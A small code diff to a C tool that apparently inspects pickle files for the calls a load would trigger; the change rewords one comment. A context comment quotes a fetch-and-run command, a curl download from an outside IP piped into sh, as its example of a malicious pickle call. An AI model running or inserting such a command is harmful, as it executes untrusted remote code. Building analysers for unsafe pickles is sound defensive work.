@@ -164,7 +164,7 @@ void facts_globals(struct file_facts *facts)
     }
 }
 
-/* --- What would be run */
+/* --- Calls that a load would run */
 
 /* "posix.system("curl -s http://203.0.113.7/x.sh | sh")" */
 static void call_fact(struct file_facts *facts, const struct pickle_event *event)
